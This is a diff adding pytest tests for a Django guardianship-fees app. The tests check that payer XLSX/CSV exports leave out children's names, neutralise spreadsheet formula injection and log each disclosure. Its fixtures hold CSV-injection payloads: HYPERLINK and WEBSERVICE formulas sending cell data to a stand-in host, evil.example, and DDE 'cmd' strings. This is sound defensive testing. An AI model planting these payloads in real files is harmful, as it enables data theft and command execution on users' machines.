@@ -1,0 +1,138 @@
+"""The payer's exports are safe and minimal (issue 15, part 8): what paying needs and no
+child's name; text written as text, so that a case number or a name typed as a formula
+stays text in the payer's spreadsheet (OWASP, CSV injection)."""
+
+import csv
+import datetime
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from fees.enums import ClaimStatus
+from fees.factories import FeeClaimFactory
+from guardianship.enums import AccessAction, AccessBasis
+from guardianship.factories import AssignmentFactory, ChildFactory, GuardianFactory
+from guardianship.models import AccessLog
+
+pytestmark = pytest.mark.django_db
+
+EXPORT = {"payer": "satakunnan-hyvinvointialue", "start": "2026-01-01", "end": "2026-12-31"}
+CHILD = "Aino-Ilona"
+# What a court case number, a name or a reference could be typed as: each first
+# character OWASP lists.
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")',
+    '=WEBSERVICE("https://evil.example/"&B2)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def claims(coordinator):
+    """An approved claim for each hostile case number, of a guardian whose name is a
+    formula too, with a child each; one of them paid."""
+    guardian = GuardianFactory(first_name="=WEBSERVICE(A1)", last_name="@Kallio")
+    made = []
+    for n, number in enumerate(HOSTILE):
+        case = AssignmentFactory(
+            appointed=True,
+            guardian=guardian,
+            proposed_by=coordinator,
+            request__children=0,
+            request__case_number=number,
+        )
+        ChildFactory(request=case.request, first_name=CHILD, last_name="Virtanen")
+        made.append(
+            FeeClaimFactory(
+                assignment=case,
+                approved=True,
+                period_start=datetime.date(2026, n + 1, 1),
+                period_end=datetime.date(2026, n + 1, 20),
+                description='=HYPERLINK("https://evil.example")',
+            )
+        )
+    paid = made[0]
+    paid.status, paid.paid_at, paid.payment_reference = (
+        ClaimStatus.PAID,
+        datetime.date(2026, 11, 2),
+        "=cmd|' /C calc'!A0",
+    )
+    paid.save()
+    return made
+
+
+def download(client, user, fmt):
+    client.force_login(user)
+    response = client.get(reverse("fees:claim_export", args=[fmt]), EXPORT)
+    assert response.status_code == 200
+    return response
+
+
+def test_the_xlsx_has_no_formula_and_no_childs_name(client, payer, claims):
+    response = download(client, payer, "xlsx")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if CHILD in t or "Virtanen" in t]
+    header = [c.value for c in sheet[2]]
+    assert header == [
+        "Palkkiovaatimus",
+        "Pyyntö",
+        "Asianumero",
+        "Edunvalvoja",
+        "Jakson alku",
+        "Jakson loppu",
+        "Tila",
+        "Maksupäivä",
+        "Maksun viite",
+        "Tunnit",
+        "Palkkio (€)",
+        "Kulut (€)",
+        "Yhteensä (€)",
+    ]
+    rows = [list(row) for row in sheet.iter_rows(min_row=3, max_row=sheet.max_row - 1)]
+    # The hostile case numbers are there, as typed, as strings (XML keeps no lone "\r").
+    assert [(r[2].value, r[2].data_type) for r in rows] == [
+        (n.replace("\r", "\n"), "s") for n in HOSTILE
+    ]
+    assert {r[3].value for r in rows} == {"=WEBSERVICE(A1) @Kallio"}
+    paid = rows[0]
+    assert (paid[6].value, paid[7].value.date(), paid[8].value) == (
+        "Maksettu",
+        datetime.date(2026, 11, 2),
+        "=cmd|' /C calc'!A0",
+    )
+    assert rows[1][6].value == "Hyväksytty"
+
+
+def test_the_csv_neutralises_every_dangerous_first_character(client, coordinator, claims):
+    response = download(client, coordinator, "csv")
+
+    text = response.content.decode("utf-8-sig")
+    assert CHILD not in text and "Virtanen" not in text
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    body = rows[1:-1]
+    # An apostrophe first (defusedcsv also escapes the DDE pipe "|" as "\|").
+    assert [r[2] for r in body] == ["'" + n.replace("|", "\\|") for n in HOSTILE]
+    assert {r[3] for r in body} == {"'=WEBSERVICE(A1) @Kallio"}
+    assert body[0][8] == "'=cmd\\|' /C calc'!A0"  # the payer's own reference too
+    # No cell anywhere begins a formula.
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row if cell.startswith(dangerous)]
+
+
+def test_each_export_is_a_logged_disclosure_to_the_payer(client, payer, claims):
+    download(client, payer, "xlsx")
+    rows = AccessLog.objects.filter(user=payer, action=AccessAction.EXPORT)
+    assert rows.count() == len(HOSTILE)  # a row per child of the exported claims
+    assert set(rows.values_list("basis", "recipient")) == {
+        (AccessBasis.PAYER, "Satakunnan hyvinvointialue")
+    }
